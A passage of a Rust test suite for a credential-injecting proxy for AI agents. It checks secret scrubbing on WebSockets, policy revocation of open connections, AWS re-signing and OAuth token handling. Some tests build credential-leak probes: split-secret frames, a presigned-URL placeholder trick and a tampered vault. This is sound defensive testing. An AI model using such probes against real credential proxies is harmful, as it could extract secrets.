/// upstream (a compressed message could not be read), and an upgrade to
/// another protocol with a credential is refused.
#[test]
fn a_secret_echoed_over_a_websocket_is_scrubbed() {
    let Setup { d, up } = setup("");
    let url = format!("wss://api.example.test:{}/ws", up.port);
    let node = format!(
        r#"
const ws = new WebSocket('{url}', {{headers: {{authorization: 'Bearer ' + process.env.API_TOKEN}}}});
ws.binaryType = 'arraybuffer';
const got = [];
ws.onopen = () => {{ ws.send('hello ' + process.env.API_TOKEN); ws.send(new Uint8Array(200000).map((_, i) => i % 251)); }};
ws.onmessage = e => {{
  got.push(e.data);
  if (got.length < 3) return;
  console.log(got[0]);
  console.log(got[1]);
  const b = new Uint8Array(got[2]);
  console.log('binary', b.length, b.every((v, i) => v === i % 251));
  ws.close(1000, 'done');
}};
ws.onclose = e => console.log('closed', e.code);
ws.onerror = e => {{ console.log('error', e.message); process.exit(1); }};
setTimeout(() => {{ console.log('timed out', got.length); process.exit(1); }}, 10000).unref();
"#
    );
    let out = d.run_agent_dns(
        "web-bot",
        &["node", "--experimental-websocket", "-e", &node],
    );
    let text = stdout(&out);
    assert_eq!(
        text.lines().collect::<Vec<_>>(),
        [
            format!("you sent: Bearer {PLACEHOLDER}").as_str(),
            format!("hello {PLACEHOLDER}").as_str(),
            "binary 200000 true",
            "closed 1000",
        ],
        "{}",
        describe(&out)
    );
    assert_no_secret("the agent's output", &describe(&out));
    let handshake = up
        .seen()
        .into_iter()
        .rfind(|s| s.path == "/ws")
        .expect("the upstream saw the handshake");
    assert_eq!(
        handshake.header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    assert_eq!(handshake.header("sec-websocket-extensions"), None);

    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: SPDY/3.1' -H \"Authorization: Bearer $API_TOKEN\" https://api.example.test:{}/hello",
            up.port
        ),
    );
    let text = stdout(&out);
    assert!(
        text.contains("\"reason\":\"upgrade_not_scrubbable\""),
        "{}",
        describe(&out)
    );
    assert_no_secret("daemon log", &d.log_text());
}

/// A frame from a host that holds secrets which the scrubber cannot read
/// (here a message marked compressed, which no extension was agreed for)
/// never reaches the agent: the WebSocket is closed, the audit log says
/// why, and the daemon's log warns, naming the agent and the host.
#[test]
fn a_websocket_frame_that_cannot_be_scrubbed_closes_the_socket_and_is_audited() {
    let Setup { d, up } = setup("");
    // The echo upstream sends the frame back as it came, RSV1 set.
    let py = format!(
        r#"
{open}print(head.split(b'\r\n')[0].decode())
s.sendall(bytes([0xc1, 0x83, 1, 2, 3, 4]) + bytes(b ^ k for b, k in zip(b'zip', [1, 2, 3])))
got = b''
try:
    while chunk := s.recv(4096):
        got += chunk
except (ssl.SSLError, ConnectionError):
    pass
print('closed', got)
"#,
        open = ws_open_py(up.port)
    );
    let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
    assert_eq!(
        stdout(&out).lines().collect::<Vec<_>>(),
        ["HTTP/1.1 101 Switching Protocols", "closed b''"],
        "{}",
        describe(&out)
    );
    let record = d.wait_audit("of the WebSocket closed on its frame", |r| {
        r["reason"] == "frame_not_scrubbable"
    });
    assert_eq!(record["agent"], "web-bot", "{record}");
    assert_eq!(record["action"], "deny", "{record}");
    assert_eq!(record["path"], "/ws", "{record}");
    let log = d.log_text();
    assert!(
        log.lines().any(|l| l
            .contains("WebSocket connection closed: a frame could not be scrubbed")
            && l.contains("agent=web-bot")
            && l.contains("host=\"api.example.test\"")
            && l.contains("reserved bits set")),
        "{log}"
    );
}

/// An upstream that sends the credential it was given in two messages,
/// cut inside it: neither message holds it whole, and each is scrubbed on
/// its own. A first message that ends in more than the secret's first
/// three bytes may end inside a secret, and closes the socket before it
/// goes; one that ends in three goes, and the second, which completes the
/// secret, closes the socket before it goes. The audit log says why.
#[test]
fn a_secret_split_across_two_websocket_messages_closes_the_socket_before_either_half() {
    let Setup { d, up } = setup("");
    for (command, after_the_greeting, why) in [
        ("split", String::new(), "may end inside a credential"),
        (
            "split-3",
            format!("you sent: Bearer {}", &SECRET[..3]),
            "split across two messages",
        ),
    ] {
        let py = format!(
            r#"
{open}command = b'{command}'
masked = bytes([0x81, 0x80 | len(command), 1, 2, 3, 4]) + bytes(b ^ (i % 4 + 1) for i, b in enumerate(command))
s.sendall(masked)
got = b''
try:
    while chunk := s.recv(4096):
        got += chunk
except (ssl.SSLError, ConnectionError, TimeoutError):
    pass
print(head.split(b'\r\n')[0].decode())
print('got', got)
text = b''
while len(got) >= 2:
    n, at = got[1] & 0x7f, 2
    if n == 126:
        n, at = int.from_bytes(got[2:4], 'big'), 4
    if len(got) < at + n:
        break
    if got[0] & 0x0f in (0, 1):
        text += got[at:at + n]
    got = got[at + n:]
print('text', text.decode())
"#,
            open = ws_open_py_with_token(up.port)
        );
        let out = d.run_agent_dns("web-bot", &[PY, "-c", &py]);
        let text = stdout(&out);
        assert!(
            text.starts_with("HTTP/1.1 101 Switching Protocols"),
            "{command}: {}",
            describe(&out)
        );
        assert!(
            text.contains(&format!(
                "text you sent: Bearer {PLACEHOLDER}{after_the_greeting}\n"
            )),
            "{command}: the greeting came first, scrubbed, and nothing after it but the first message if it may go: {}",
            describe(&out)
        );
        assert_no_piece_of_secret("what the agent read", &describe(&out));
        d.wait_for_log(why, command);
        // The warning is logged at most once a second for an agent.
        std::thread::sleep(Duration::from_millis(1100));
    }
    let records: Vec<_> = d
        .audit_records()
        .into_iter()
        .filter(|r| r["reason"] == "frame_not_scrubbable")
        .collect();
    assert_eq!(records.len(), 2, "{records:?}");
    assert!(records.iter().all(|r| r["agent"] == "web-bot"));
    assert_no_secret("daemon log", &d.log_text());
}

/// Python lines that wait (bounded) until the test raises `flag`: the
/// agent holds its connections open meanwhile.
fn wait_for_flag(flag: &std::path::Path) -> String {
    format!(
        "deadline = time.time() + 30\nwhile not os.path.exists('{}'):\n    if time.time() > deadline:\n        print('the test never changed the policy')\n        sys.exit(1)\n    time.sleep(0.05)",
        flag.display()
    )
}

fn raise(flag: &std::path::Path) {
    std::fs::write(flag, "").expect("flag");
    harness::set_mode(flag, 0o644);
}

/// Polls `probe` (in force?, what it saw) until an edited policy is in
/// force, for at most 10 s.
fn until_in_force(probe: impl Fn() -> (bool, String)) {
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let (done, seen) = probe();
        if done {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the edited policy never took effect: {seen}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A reload that takes a permission away applies to the next request on
/// a connection opened before it: agents keep connections open for a
/// long time (LLM clients, SDKs with pools), and a revocation that waited
/// for them to reconnect would not be one.
#[test]
fn a_reload_that_takes_a_path_away_stops_it_on_an_open_connection() {
    let Setup { d, up } = setup("");
    let flag = d.dir.path().join("policy-changed");
    let src = format!(
        r#"
import http.client, os, ssl, sys, time
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
conn = http.client.HTTPSConnection('api.example.test', {port}, context=ctx, timeout=10)
def get():
    conn.request('GET', '/hello')
    r = conn.getresponse()
    r.read()
    return r.status, conn.sock.getsockname()
first, before = get()
print('first', first, flush=True)
{wait}
second, after = get()
print('second', second, 'same connection' if before == after else 'another connection')
"#,
        port = up.port,
        wait = wait_for_flag(&flag)
    );
    let url = format!("https://api.example.test:{}/hello", up.port);
    std::thread::scope(|scope| {
        let agent = scope.spawn(|| d.run_agent_dns("web-bot", &[PY, "-c", &src]));
        d.wait_audit("for the first request", |r| {
            r["path"] == "/hello" && r["status"] == 200
        });
        let path = d.policy_dir.join("web-bot.yaml");
        let policy = std::fs::read_to_string(&path).expect("policy");
        std::fs::write(&path, policy.replace("\"/hello\", ", "")).expect("edit");
        // A new connection sees the new policy first: then it is in force.
        until_in_force(|| {
            let out = d.run_agent_dns(
                "web-bot",
                &["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", &url],
            );
            (stdout(&out) == "403", describe(&out))
        });
        let hellos = || up.seen().iter().filter(|s| s.path == "/hello").count();
        let reached = hellos();
        raise(&flag);
        let out = agent.join().expect("the agent's thread");
        assert_eq!(
            stdout(&out),
            "first 200\nsecond 403 same connection\n",
            "{}",
            describe(&out)
        );
        assert_eq!(
            hellos(),
            reached,
            "a request the new policy denies reached the upstream"
        );
    });
}

/// A WebSocket outlives the request that opened it: a reload that no
/// longer allows that request closes the socket, and the agent's next
/// message goes nowhere.
#[test]
fn a_reload_that_takes_a_websocket_path_away_closes_the_open_socket() {
    let Setup { d, up } = setup("");
    let p = up.port;
    let flag = d.dir.path().join("policy-changed");
    let py = format!(
        r#"
import sys, time
{open}def echo(word):
    s.sendall(bytes([0x81, 0x80 | len(word), 1, 2, 3, 4]) + bytes(b ^ [1, 2, 3, 4][i % 4] for i, b in enumerate(word)))
    want = bytes([0x81, len(word)]) + word
    got = b''
    try:
        while len(got) < len(want):
            more = s.recv(64)
            if not more:
                return 'closed'
            got += more
    except (ssl.SSLError, OSError):
        return 'closed'
    return 'echo' if got == want else 'other ' + repr(got)
print(head.split(b'\r\n')[0].decode(), echo(b'hello'), flush=True)
{wait}
print(echo(b'again'))
"#,
        wait = wait_for_flag(&flag),
        open = ws_open_py(p)
    );
    let url = format!("https://api.example.test:{p}/ws");
    std::thread::scope(|scope| {
        let agent = scope.spawn(|| d.run_agent_dns("web-bot", &[PY, "-c", &py]));
        d.wait_audit("for the WebSocket upgrade", |r| {
            r["path"] == "/ws" && r["status"] == 101
        });
        let path = d.policy_dir.join("web-bot.yaml");
        let policy = std::fs::read_to_string(&path).expect("policy");
        let without = policy.replace(", \"/ws\"", "");
        assert_ne!(policy, without, "/ws was in the policy");
        std::fs::write(&path, without).expect("edit");
        until_in_force(|| {
            let out = d.run_agent_dns(
                "web-bot",
                &["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", &url],
            );
            (stdout(&out) == "403", describe(&out))
        });
        raise(&flag);
        let out = agent.join().expect("the agent's thread");
        assert_eq!(
            stdout(&out),
            "HTTP/1.1 101 Switching Protocols echo\nclosed\n",
            "{}",
            describe(&out)
        );
        d.wait_audit("for the WebSocket's closing", |r| {
            r["path"] == "/ws" && r["action"] == "deny" && r["reason"] == "policy_revoked"
        });
    });
}

/// Tunnels outlive the decision that let them through: a reload that no
/// longer passes the host through, or drops the `tcp:` entry, closes the
/// tunnels already open under it, and says so in the audit log.
#[test]
fn a_reload_that_takes_a_tunnel_away_closes_the_open_ones() {
    let raw = harness::servers::TagServer::start("127.0.0.1:0", "raw tcp server");
    let t = raw.addr.port();
    let Setup { d, up } = setup(&format!(
        "passthrough:\n  - \"pinned.example.test:{{port}}\"\ntcp:\n  - \"127.0.0.1/32:{t}\"\n"
    ));
    let ca = harness::script(
        &d,
        "upstream-ca.pem",
        &std::fs::read_to_string(&up.ca_pem).expect("upstream CA"),
    );
    let flag = d.dir.path().join("policy-changed");
    let src = format!(
        r#"
import os, socket, ssl, sys, time
ctx = ssl.create_default_context(cafile='{ca}')
tls = ctx.wrap_socket(socket.create_connection(('pinned.example.test', {p}), timeout=10),
                      server_hostname='pinned.example.test')
def get():
    tls.sendall(b'GET /hello HTTP/1.1\r\nHost: pinned.example.test\r\n\r\n')
    data = b''
    while b'hello from upstream' not in data:
        chunk = tls.recv(4096)
        if not chunk:
            return 'closed'
        data += chunk
    return data.split(b'\r\n')[0].decode()
raw = socket.create_connection(('127.0.0.1', {t}), timeout=10)
print('tunnel', get())
print('tcp', raw.recv(100).decode().strip(), flush=True)
{wait}
try:
    print('tunnel after', get())
except OSError as e:
    print('tunnel after closed', type(e).__name__)
try:
    raw.sendall(b'ping\n')
    print('tcp after', raw.recv(100).decode().strip() or 'closed')
except OSError as e:
    print('tcp after closed', type(e).__name__)
"#,
        p = up.port,
        wait = wait_for_flag(&flag)
    );
    let path = d.policy_dir.join("web-bot.yaml");
    std::thread::scope(|scope| {
        let agent = scope.spawn(|| d.run_agent_dns("web-bot", &[PY, "-c", &src]));
        // Both tunnels are open and have carried something.
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while !(raw.accepted() == 1 && up.seen().iter().any(|s| s.path == "/hello")) {
            assert!(
                std::time::Instant::now() < deadline,
                "the agent's tunnels never opened"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let policy = std::fs::read_to_string(&path).expect("policy");
        // The name stays passed through, but on 443 alone.
        let cut = policy
            .replace(
                &format!("\"pinned.example.test:{}\"", up.port),
                "\"pinned.example.test\"",
            )
            .replace(&format!("tcp:\n  - \"127.0.0.1/32:{t}\"\n"), "");
        assert_ne!(cut, policy, "the edit changed nothing");
        std::fs::write(&path, cut).expect("edit");
        // In force once a new raw connection is refused.
        let probe = format!(
            "import socket\ns = socket.create_connection(('127.0.0.1', {t}), timeout=5)\ns.settimeout(5)\ntry:\n    s.sendall(b'x\\n')\n    print(s.recv(100).decode().strip() or 'closed')\nexcept OSError:\n    print('closed')\n"
        );
        until_in_force(|| {
            let out = d.run_agent("web-bot", &[PY, "-c", &probe]);
            (stdout(&out).trim() == "closed", describe(&out))
        });
        raise(&flag);
        let out = agent.join().expect("the agent's thread");
        let text = stdout(&out);
        let lines: Vec<&str> = text.lines().collect();
        let expected = [
            "tunnel HTTP/1.1 200 OK",
            "tcp raw tcp server",
            // Closed: EOF, or a reset.
            "tunnel after closed",
            "tcp after closed",
        ];
        assert_eq!(lines.len(), expected.len(), "{}", describe(&out));
        for (line, start) in lines.iter().zip(expected) {
            assert!(line.starts_with(start), "{}", describe(&out));
        }
    });
    for (what, rule) in [
        (
            "passthrough",
            format!("passthrough pinned.example.test:{}", up.port),
        ),
        ("tcp", format!("tcp[0] 127.0.0.1/32:{t}")),
    ] {
        let rec = d.wait_audit(&format!("for the {what} tunnel's end"), |r| {
            r["rule"] == rule.as_str() && r["reason"] == "policy_revoked"
        });
        assert_eq!(rec["action"], "deny", "{rec}");
        // What crossed before the cut is counted.
        let crossed =
            rec["bytes_out"].as_u64().unwrap_or(0) + rec["bytes_in"].as_u64().unwrap_or(0);
        assert!(crossed > 0, "{rec}");
    }
}

#[test]
fn a_policy_typo_leaves_the_old_policy_in_force() {
    let Setup { d, up } = setup("");
    let url = format!("https://api.example.test:{}/hello", up.port);
    let get = || {
        d.run_agent_dns(
            "web-bot",
            &["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", &url],
        )
    };
    assert_eq!(stdout(&get()), "200");
    let path = d.policy_dir.join("web-bot.yaml");
    let good = std::fs::read_to_string(&path).expect("policy");
    // A typo that, if half-applied, would drop the GET permission.
    std::fs::write(
        &path,
        good.replace("methods: [GET, POST, HEAD]", "methds: [POST]"),
    )
    .expect("edit");
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let status = d.status().expect("status");
        if let Some(err) = status["policies"]["errors"]
            .as_array()
            .and_then(|e| e.first())
        {
            let err = err.as_str().unwrap_or_default();
            assert!(
                err.contains("web-bot.yaml:") && err.contains("methds"),
                "{err}"
            );
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the typo was never reported: {status}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = get();
    assert_eq!(
        stdout(&out),
        "200",
        "the previous policy is no longer in force: {}\n{}",
        describe(&out),
        d.log_text()
    );
    assert!(
        d.metrics()
            .contains("airlock_policy_reload_total{result=\"error\"}")
    );
    // `policy check` says the same offline, with line and column.
    let out = std::process::Command::new(harness::AIRLOCK)
        .args(["policy", "check"])
        .arg(&path)
        .output()
        .expect("policy check");
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{}:", path.display())) && err.contains("methds"),
        "{err}"
    );
}

#[test]
fn a_tampered_vault_is_refused_whole_with_a_clear_error() {
    let Setup { d, .. } = setup("");
    let vault = d.dir.path().join("state/vault.json");
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&vault).expect("vault")).expect("vault json");
    let mut ct = doc["ciphertext"]
        .as_str()
        .expect("ciphertext")
        .to_owned()
        .into_bytes();
    // Flip one base64 character in the middle: still valid base64, wrong tag.
    let at = ct.len() / 2;
    ct[at] = if ct[at] == b'A' { b'B' } else { b'A' };
    doc["ciphertext"] = serde_json::Value::String(String::from_utf8(ct).expect("b64"));
    std::fs::write(&vault, doc.to_string()).expect("tamper");
    let out = std::process::Command::new(harness::AIRLOCK)
        .args(["secret", "list", "--config"])
        .arg(&d.config)
        .output()
        .expect("secret list");
    assert!(!out.status.success(), "{}", describe(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("vault.json") && err.contains("authenticated"),
        "{err}"
    );
    assert!(
        !stdout(&out).contains("api-token"),
        "a partial vault was listed"
    );
    assert_no_secret("the error", &err);
}

const AWS_PH: &str = "AKIDAIRLOCKTESTPH001";
const AWS_ID: &str = "AKIDEXAMPLETESTID042";
const AWS_SECRET: &str = "testRealSecretKey/0123456789+abcdefABCDEF";
const AWS_RULE: &str = "  - host: aws.example.test:{port}\n    methods: [GET, POST]\n    credentials:\n      - secret: aws\n";

/// Recomputes, with botocore and the real key, the Authorization header of
/// a request as the upstream received it, over the headers it names as
/// signed. Reads `{seen, body, id, secret}` as JSON on stdin.
const BOTOCORE_SIGN: &str = r#"
import json, sys
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
a = json.load(sys.stdin)
seen = a['seen']
auth = dict(seen['headers'])['authorization']
scope = auth.split('Credential=')[1].split(',')[0].split('/')
signed = auth.split('SignedHeaders=')[1].split(',')[0].split(';')
headers = {k: v for k, v in seen['headers'] if k in signed}
headers.setdefault('host', seen['authority'])
req = AWSRequest(method=seen['method'], url='https://' + headers['host'] + seen['path'],
                 headers=headers, data=a['body'].encode())
req.context['timestamp'] = headers['x-amz-date']
signer = SigV4Auth(Credentials(a['id'], a['secret']), scope[3], scope[2])
sts = signer.string_to_sign(req, signer.canonical_request(req))
print('AWS4-HMAC-SHA256 Credential=%s, SignedHeaders=%s, Signature=%s'
      % (signer.scope(req), ';'.join(sorted(signed)), signer.signature(sts, req)))
"#;

fn botocore_authorization(seen: &Seen, body: &str) -> String {
    let input = serde_json::json!({
        "seen": {
            "method": seen.method,
            "path": seen.path,
            "authority": seen.authority,
            "headers": seen.headers,
        },
        "body": body,
        "id": AWS_ID,
        "secret": AWS_SECRET,
    });
    let mut child = Command::new(PY)
        .args(["-c", BOTOCORE_SIGN])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 with botocore (Debian: python3-botocore)");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(input.to_string().as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("botocore");
    assert!(out.status.success(), "botocore: {}", describe(&out));
    stdout(&out).trim().to_owned()
}

/// An AWS client signs with the placeholder as its access key id; the
/// upstream receives the request signed with the real key, exactly as
/// botocore signs it given the real key. The secret key never travels,
/// and the agent sees neither part of the real key, even when the
/// upstream echoes the Authorization header.
#[test]
fn aws_requests_are_re_signed_with_the_real_key() {
    let Setup { d, up } = setup(AWS_RULE);
    d.secret_set_kind(
        "aws",
        "aws_sigv4",
        AWS_PH,
        &format!("{AWS_ID}:{AWS_SECRET}"),
    );
    let base = format!("https://aws.example.test:{}", up.port);
    let sigv4 = format!("--aws-sigv4 aws:amz:us-east-1:sts --user {AWS_PH}:agent-side-secret");
    const BODY: &str = r#"{"Action":"GetCallerIdentity"}"#;
    let runs = [
        (
            "a GET with a query, over HTTP/1.1",
            format!(
                "curl -sS --fail-with-body --http1.1 {sigv4} '{base}/echo?Version=2011-06-15&Action=GetCallerIdentity'"
            ),
            "",
            "HTTP/1.1",
        ),
        (
            "a POST with a body, over HTTP/2",
            format!(
                "curl -sS --fail-with-body --http2 {sigv4} -H 'content-type: application/json' -d '{BODY}' {base}/echo"
            ),
            BODY,
            "HTTP/2.0",
        ),
    ];
    for (name, cmd, body, version) in runs {
        let before = up.seen().len();
        let out = d.run_agent_dns("web-bot", &["sh", "-c", &cmd]);
        let text = stdout(&out);
        assert!(out.status.success(), "{name}: {}", describe(&out));
        // The echo reflects the Authorization header the upstream got.
        assert!(
            text.contains(&format!("Credential={AWS_PH}/")),
            "{name}: {text}"
        );
        for part in [AWS_ID, AWS_SECRET] {
            assert!(!text.contains(part), "{name}: the agent saw {part}: {text}");
        }
        let seen = up.seen();
        assert_eq!(seen.len(), before + 1, "{name}");
        let got = &seen[before];
        assert_eq!(got.version, version, "{name}");
        let auth = got.header("authorization").expect("authorization");
        assert!(
            auth.starts_with(&format!("AWS4-HMAC-SHA256 Credential={AWS_ID}/")),
            "{name}: {auth}"
        );
        assert!(!format!("{got:?}").contains(AWS_SECRET), "{name}: {got:?}");
        assert_eq!(auth, botocore_authorization(got, body), "{name}");
    }
    let rec = d.wait_audit("for the re-signed request", |r| {
        r["host"] == "aws.example.test" && r["method"] == "POST"
    });
    assert_eq!(rec["credentials"], serde_json::json!(["aws"]));

    // The same placeholder elsewhere than the signature is refused: a
    // presigned URL would hand the agent a URL signed with the real key.
    let before = up.seen().len();
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS '{base}/echo?X-Amz-Credential={AWS_PH}%2F20261125%2Fus-east-1%2Fs3%2Faws4_request'"
        ),
    );
    let text = stdout(&out);
    assert!(
        text.contains("aws_sigv4_placeholder_misplaced"),
        "{}",
        describe(&out)
    );
    assert_eq!(
        up.seen().len(),
        before,
        "a refused request reached the upstream"
    );
}

const SVC_PH: &str = "airlock-ph-svc-token";
const GH_PH: &str = "airlock-ph-gh-installation";
const SVC_RULE: &str = "  - host: svc.example.test:{port}\n    methods: [GET]\n    credentials:\n      - secret: svc\n      - secret: svc-broken\n      - secret: gh\n";

/// The `Authorization` headers the upstream's /echo received, in order.
fn echoed_authorizations(up: &TlsUpstream) -> Vec<String> {
    up.seen()
        .iter()
        .filter(|s| s.path == "/echo")
        .map(|s| s.header("authorization").unwrap_or_default().to_owned())
        .collect()
}

/// An agent holding the placeholder of an `oauth2_client_credentials`
/// secret: Airlock fetches the token from the token endpoint (Basic client
/// authentication, over verified TLS), reuses it, renews it before it
/// expires, and the agent sees neither the token nor the client secret.
/// A client the endpoint refuses gets a 502 that says why, and nothing
/// reaches the API. The token endpoint keeps a request log the agent may
/// read (no rule binds a secret to it): the client secret Airlock sent
/// there is scrubbed from it.
#[test]
fn oauth2_tokens_are_fetched_renewed_and_never_seen_by_the_agent() {
    let Setup { d, up } = setup(&format!(
        "{SVC_RULE}  - host: auth.example.test:{{port}}\n    methods: [GET]\n    paths: [/log]\n"
    ));
    let p = up.port;
    let grant = |secret: &str| {
        format!(
            "token_url: https://auth.example.test:{p}/oauth/token?ttl=2\nclient_id: {OAUTH_CLIENT_ID}\nclient_secret: \"{secret}\"\nscope: api.read\n"
        )
    };
    d.secret_set_kind(
        "svc",
        "oauth2_client_credentials",
        SVC_PH,
        &grant(OAUTH_CLIENT_SECRET),
    );
    let get = format!(
        "curl -sS --fail-with-body -H 'Authorization: Bearer {SVC_PH}' https://svc.example.test:{p}/echo; echo"
    );
    // Two requests within the token's two seconds, one after it.
    let out = d.run_agent_dns(
        "web-bot",
        &["sh", "-c", &format!("{get}; {get}; sleep 2.2; {get}")],
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        echoed_authorizations(&up),
        ["Bearer tok-1", "Bearer tok-1", "Bearer tok-2"],
        "the upstream got the fetched tokens"
    );
    assert_eq!(
        up.issued(),
        ["tok-1", "tok-2"],
        "one fetch per token lifetime"
    );
    // The echo reflected the tokens; the agent sees its placeholder.
    assert_eq!(
        text.matches(&format!("Bearer {SVC_PH}")).count(),
        3,
        "{text}"
    );
    for leaked in ["tok-1", "tok-2", OAUTH_CLIENT_SECRET] {
        assert!(!text.contains(leaked), "the agent saw {leaked}: {text}");
    }
    let rec = d.wait_audit("for the request with a token", |r| {
        r["host"] == "svc.example.test" && r["proto"] == "https"
    });
    assert_eq!(rec["credentials"], serde_json::json!(["svc"]));

    let basic = up
        .seen()
        .into_iter()
        .find(|s| s.path.starts_with("/oauth/token"))
        .and_then(|s| s.header("authorization").map(str::to_owned))
        .expect("the token request's client authentication");
    let encoded = basic.strip_prefix("Basic ").expect("Basic");
    let out = web_bot_sh(
        &d,
        &format!("curl -sS --fail-with-body https://auth.example.test:{p}/log"),
    );
    let log = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(log.contains("/oauth/token"), "the log was read: {log}");
    assert!(
        !log.contains(encoded) && !log.contains(OAUTH_CLIENT_SECRET),
        "the agent read the client secret in the token endpoint's log: {log}"
    );

    d.secret_set_kind(
        "svc-broken",
        "oauth2_client_credentials",
        "airlock-ph-svc-broken",
        &grant("not-the-client-secret"),
    );
    let before = echoed_authorizations(&up).len();
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS -w ' %{{http_code}}' -H 'Authorization: Bearer airlock-ph-svc-broken' https://svc.example.test:{p}/echo"
        ),
    );
    let text = stdout(&out);
    assert!(text.ends_with(" 502"), "{}", describe(&out));
    assert!(text.contains("credential_token_unavailable"), "{text}");
    assert!(text.contains("answered 401 (invalid_client)"), "{text}");
    assert_eq!(
        echoed_authorizations(&up).len(),
        before,
        "the refused request went upstream"
    );
    assert!(
        !d.log_text().contains(OAUTH_CLIENT_SECRET),
        "the daemon logged the client secret"
    );
}

/// An agent holding the placeholder of a `github_app` secret: Airlock signs
/// a JWT with the App's key (checked by the endpoint against the public
/// key), trades it for an installation token, and swaps that in.
#[test]
fn github_app_installation_tokens_are_fetched_with_a_signed_jwt() {
    let Setup { d, up } = setup(SVC_RULE);
    let p = up.port;
    let key = Command::new("openssl")
        .args(["genrsa", "-traditional", "2048"])
        .output()
        .expect("openssl (Debian: openssl)");
    assert!(key.status.success(), "openssl genrsa");
    let pem = String::from_utf8(key.stdout).expect("pem");
    up.set_app_key("4242", &pem);
    let indented: String = pem.lines().map(|l| format!("  {l}\n")).collect();
    d.secret_set_kind(
        "gh",
        "github_app",
        GH_PH,
        &format!(
            "app_id: 4242\ninstallation_id: 99\napi_url: https://auth.example.test:{p}\nprivate_key: |\n{indented}"
        ),
    );
    let out = web_bot_sh(
        &d,
        &format!(
            "curl -sS --fail-with-body -H 'Authorization: token {GH_PH}' https://svc.example.test:{p}/echo"
        ),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(up.issued(), ["ghs_test1"]);
    assert_eq!(echoed_authorizations(&up), ["token ghs_test1"]);
    assert!(text.contains(&format!("token {GH_PH}")), "{text}");
    assert!(
        !text.contains("ghs_test1"),
        "the agent saw the token: {text}"
    );
    let token_request = up
        .seen()
        .into_iter()
        .find(|s| s.path == "/app/installations/99/access_tokens")
        .expect("the installation token was asked for");
    assert_eq!(token_request.method, "POST");
}

/// A crashed daemon dumps no core: a core is the process's memory, and the
/// daemon's holds the master key and the secrets it has used, in the clear,
/// wherever the host's `core_pattern` keeps cores. The harness starts every
/// daemon allowed to dump one, as a host that keeps cores would.
#[test]
fn a_crashed_daemon_dumps_no_core() {
    use std::os::unix::process::ExitStatusExt as _;
    let Setup { mut d, up } = setup("");
    // The secret passes through the daemon's memory.
    let out = d.run_agent_dns(
        "web-bot",
        &[
            "sh",
            "-c",
            &format!(
                "curl -sS --fail-with-body -H \"Authorization: Bearer $API_TOKEN\" https://api.example.test:{}/hello",
                up.port
            ),
        ],
    );
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        up.seen().last().and_then(|s| s.header("authorization")),
        Some(format!("Bearer {SECRET}").as_str()),
        "the secret was not swapped in"
    );
    let ended = d.crash();
    assert_eq!(ended.signal(), Some(libc::SIGABRT), "{ended}");
    assert!(!ended.core_dumped(), "the crashed daemon dumped a core");
    let cores = |dir: &std::path::Path| -> Vec<String> {
        std::fs::read_dir(dir)
            .expect("dir")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("core"))
            .collect()
    };
    assert_eq!(cores(d.dir.path()), Vec::<String>::new());
    // Control: a process started the same way, in the same directory, dumps
    // one, so this host would have kept the daemon's.
    let mut control = Command::new("sleep");
    control.arg("30").current_dir(d.dir.path());
    harness::allow_core_dumps(&mut control);
    let mut control = control.spawn().expect("sleep");
    // SAFETY: signalling a child this test started.
    unsafe { libc::kill(control.id() as i32, libc::SIGABRT) };
    let ended = control.wait().expect("wait");
    assert!(
        ended.core_dumped(),
        "this host dumps no core even for a plain process (kernel.core_pattern: {:?}), so this would prove nothing",
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default()
    );
}

/// A secret typed at a terminal is not shown as it is typed (it would stay
/// on the screen, in the scrollback and in whatever records the session),
/// and ends at Enter.
#[test]
fn a_secret_typed_at_a_terminal_is_not_echoed() {
    const TYPED: &str = "typed-Value-9876543210fedcba";
    let Setup { d, up } = setup("");
    // Python drives `airlock secret set` on a pseudo-terminal as a person
    // would: it waits for the prompt, types the value and Enter, and
    // reports what the terminal showed, the value blotted out.
    let driver = r#"
import json, os, select, subprocess, sys, time
value = sys.argv[1].encode()
m, s = os.openpty()
p = subprocess.Popen(sys.argv[2:], stdin=s, stdout=s, stderr=s, close_fds=True)
os.close(s)
shown = b''
def pump(until, seconds):
    global shown
    end = time.time() + seconds
    while time.time() < end and (until is None or until not in shown):
        if select.select([m], [], [], 0.1)[0]:
            try:
                chunk = os.read(m, 4096)
            except OSError:
                return
            if not chunk:
                return
            shown += chunk
pump(b'Enter ends it', 10)
try:
    os.write(m, value + b'\n')
except OSError:
    pass  # it ended without asking
pump(None, 3)
print(json.dumps({'rc': p.wait(timeout=10), 'echoed': value in shown,
